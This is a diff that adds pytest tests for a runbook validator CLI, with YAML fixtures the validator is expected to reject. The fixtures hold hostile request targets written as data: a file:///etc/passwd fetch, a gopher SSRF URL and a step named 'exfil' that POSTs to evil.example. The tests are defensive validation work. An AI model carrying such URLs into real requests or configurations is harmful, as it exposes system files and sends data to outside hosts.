@@ -121,3 +121,109 @@ def test_validate_cli_reports_file_line_and_exit_code(tmp_path: Path) -> None:
     assert "Traceback" not in result.output
     ok = CliRunner().invoke(app, ["runbook", "validate", str(good), "--output", "json"])
     assert ok.exit_code == 0 and '"valid": true' in ok.output
+
+
+LITERALS = """\
+name: literals
+target: "client:{{ params.client }}"
+parameters:
+  client: {type: string, required: true}
+steps:
+  - id: fetch
+    action: http.request
+    with: {method: GET, url: "file:///etc/passwd"}
+  - id: gopher
+    action: http.request
+    with: {method: GET, url: "gopher://127.0.0.1:70/x"}
+  - id: exfil
+    action: http.request
+    with: {method: POST, url: "http://evil.example/collect"}
+  - id: budget
+    action: policy.set_budget
+    with: {client: "{{ params.client }}", qpm: 1e45}
+  - id: block
+    action: policy.block_client
+    with:
+      client: "{{ params.client }}"
+      ttl: 0s
+      reason: test
+"""
+
+
+def test_validate_checks_literal_values(console: object, tmp_path: Path) -> None:
+    path = tmp_path / "literals.yaml"
+    path.write_text(LITERALS)
+    result = CliRunner().invoke(app, ["runbook", "validate", str(path)])
+    assert result.exit_code == 1
+    problems = [line.removeprefix("error ") for line in result.output.splitlines()]
+    assert problems == [
+        f"{path}:8: steps.0.with.url: 'file:///etc/passwd' is not an http(s) URL",
+        f"{path}:11: steps.1.with.url: 'gopher://127.0.0.1:70/x' is not an http(s) URL",
+        f"{path}:14: steps.2.with.url: http.request to 'evil.example' is not allowed "
+        "(http_action.allowed_hosts: 127.0.0.1, localhost)",
+        f"{path}:17: steps.3.with.qpm: Input should be a valid integer, unable to parse string "
+        "as an integer",
+        f"{path}:22: steps.4.with.ttl: a block lasts at least 1m (got 0s)",
+    ]
+
+
+TEMPLATED = """\
+name: templated
+target: "client:{{ params.client }}"
+parameters:
+  client: {type: string, required: true}
+  url: {type: string, default: "http://127.0.0.1:9/x"}
+  qpm: {type: int, default: 5}
+  ttl: {type: duration, default: 1h}
+steps:
+  - id: budget
+    action: policy.set_budget
+    with: {client: "{{ params.client }}", qpm: "{{ params.qpm }}"}
+  - id: block
+    action: policy.block_client
+    with: {client: "{{ params.client }}", ttl: "{{ params.ttl }}", reason: test}
+  - id: hook
+    action: http.request
+    with: {method: POST, url: "{{ params.url }}"}
+"""
+
+
+@pytest.mark.parametrize(
+    ("param", "message"),
+    [
+        ("url=file:///etc/passwd", "step hook: url: 'file:///etc/passwd' is not an http(s) URL"),
+        ("url=gopher://127.0.0.1:70/x", "step hook: url: 'gopher://127.0.0.1:70/x' is not an"),
+        ("url=http://evil.example/c", "step hook: url: http.request to 'evil.example' is not "
+         "allowed (http_action.allowed_hosts: 127.0.0.1, localhost)"),
+        ("qpm=1000000000", "step budget: qpm: Input should be less than or equal to 1000000"),
+        ("ttl=0s", "step block: ttl: a block lasts at least 1m (got 0s)"),
+    ],
+)  # fmt: skip
+def test_templated_values_get_the_same_messages_at_plan_time(
+    console: object, tmp_path: Path, param: str, message: str
+) -> None:
+    path = tmp_path / "templated.yaml"
+    path.write_text(TEMPLATED)
+    args = ["runbook", "run", str(path), "-p", "client=c1", "-p", param, "--dry-run"]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 1
+    assert message in " ".join(result.output.split()), result.output
+
+
+def test_a_repeated_key_is_refused_with_both_lines(tmp_path: Path) -> None:
+    text = GOOD_HEAD + (
+        "  - id: a\n    action: policy.block_client\n    with:\n"
+        "      client: '{{ params.client }}'\n      ttl: 1h\n      reason: test\n      ttl: 0s\n"
+    )
+    problems = _problems(tmp_path, text)
+    assert problems == [f"{tmp_path / 'bad.yaml'}:12: duplicate key 'ttl' (first at line 10)"]
+
+
+def test_a_default_that_breaks_its_own_rules_is_refused(tmp_path: Path) -> None:
+    text = GOOD_HEAD.replace(
+        "  client: {type: string, required: true}\n",
+        "  client: {type: string, required: true}\n  ttl: {type: duration, default: 0s, min: 1m}\n",
+    ) + "  - id: a\n    action: policy.unblock_client\n    with: {client: '{{ params.client }}'}\n"
+    [problem] = _problems(tmp_path, text)
+    expected = "parameters.ttl.default: 0s is shorter than the minimum 1m"
+    assert problem == f"{tmp_path / 'bad.yaml'}:5: {expected}"
